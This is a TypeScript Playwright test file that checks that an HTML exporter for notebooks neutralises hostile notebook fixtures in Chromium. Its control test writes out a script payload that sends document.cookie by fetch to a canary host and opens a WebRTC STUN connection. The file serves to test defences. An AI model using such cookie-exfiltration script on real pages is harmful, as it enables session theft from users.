import { readdirSync } from "node:fs";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, it } from "vitest";
import { exportHtml } from "@notemill/html-export";
import { describeWith } from "../../../tests/requirements.ts";
import { type Canary, openCanary } from "./canary.ts";
import { CHROMIUM, launchChromium } from "./chromium.ts";
import { findActiveParts, settle, shapeOf, useEverything } from "./inspect-page.ts";
import { openPageServer, type PageServer } from "./page-server.ts";
import { FIXTURES, readFixture } from "./read-fixture.ts";

const NAMES = readdirSync(`${FIXTURES}hostile`).filter((name) => name.endsWith(".ipynb"));

describeWith(CHROMIUM, "hostile notebooks in Chromium", () => {
  let canary: Canary;
  let pages: PageServer;
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    canary = await openCanary();
    pages = await openPageServer();
    browser = await launchChromium(`127.0.0.1:${canary.httpPort}`);
  });

  afterAll(async () => {
    await browser.close();
    await pages[Symbol.asyncDispose]();
    await canary[Symbol.asyncDispose]();
  });

  /** Points the addresses of a fixture at the canary. */
  const read = (name: string) =>
    readFixture(`hostile/${name}`, [
      ["canary.example:3478", `127.0.0.1:${canary.udpPort}`],
      ["canary.example", `127.0.0.1:${canary.httpPort}`],
    ]);

  /** Notes all that happens in the browser while a reader looks at a page. */
  let events: string[] = [];
  let address = "";

  beforeAll(async () => {
    const context = await browser.newContext({ viewport: { width: 390, height: 800 } });
    page = await context.newPage();
    page.on("dialog", (dialog) => {
      events.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on("console", (message) => events.push(`console ${message.text().slice(0, 200)}`));
    page.on("pageerror", (error) => events.push(`error ${error.message}`));
    page.on("popup", (popup) => events.push(`popup ${popup.url()}`));
    page.on("framenavigated", (frame) => {
      if (frame.url() !== address) events.push(`navigation ${frame.url()}`);
    });
    page.on("request", (request) => {
      const isOwn = request.url() === address || request.url().startsWith("data:");
      if (!isOwn) events.push(`request ${request.url()}`);
    });
  });

  /** Opens a page as a reader. */
  async function visit(html: string): Promise<void> {
    address = pages.add(html);
    events = [];
    await page.goto(address);
    await settle(page);
  }

  it.each(NAMES)("%s does nothing and stays in its place", async (name) => {
    const html = exportHtml(read(name), { name, hidden: "fold" });
    await visit(html);
    expect(await findActiveParts(page)).toEqual([]);
    expect(await shapeOf(page)).toEqual({
      body: ["a", "header", "main", "footer"],
      cells: html.match(/^<section class="cell /gm)?.length ?? 0,
      stray: 0,
      last: "sentinel",
      overflow: 0,
      heading: "title",
    });
    await useEverything(page);
    await expectNothing();
  });

  it.each(NAMES)("%s does nothing even without the page's policy", async (name) => {
    const html = exportHtml(read(name), { name, hidden: "fold" });
    const bare = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "");
    expect(bare.length).toBeLessThan(html.length);
    await visit(bare);
    await useEverything(page);
    await expectNothing();
  });

  async function expectNothing(): Promise<void> {
    expect(events).toEqual([]);
    expect(await page.evaluate(() => ["pwned" in globalThis, "polluted" in {}])).toEqual([false, false]);
    expect(canary.reached).toEqual([]);
  }

  it("reaches the canaries when nothing protects the reader", async () => {
    const http = `http://127.0.0.1:${canary.httpPort}`;
    const markup = `<img src="${http}/control.png"><img src="http://any.host.example/mapped"><script>
      const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${canary.udpPort}" }] });
      c.createDataChannel("");
      c.createOffer().then((offer) => c.setLocalDescription(offer));
      fetch("${http}/cookie?" + document.cookie);
      globalThis.pwned = 1;
      alert(1);
      console.log("hello");
    </script>`;
    const seen = Promise.all([
      canary.sees(`GET 127.0.0.1:${canary.httpPort}/control.png`),
      canary.sees("GET any.host.example/mapped"),
      canary.sees(`GET 127.0.0.1:${canary.httpPort}/cookie?session=canary-cookie`),
      canary.sees("UDP"),
    ]);
    await visit(markup);
    await seen;
    expect(events).toEqual(
      expect.arrayContaining(["dialog 1", "console hello", `request ${http}/control.png`]),
    );
    expect(await findActiveParts(page)).toContain("<script>");
  });
});
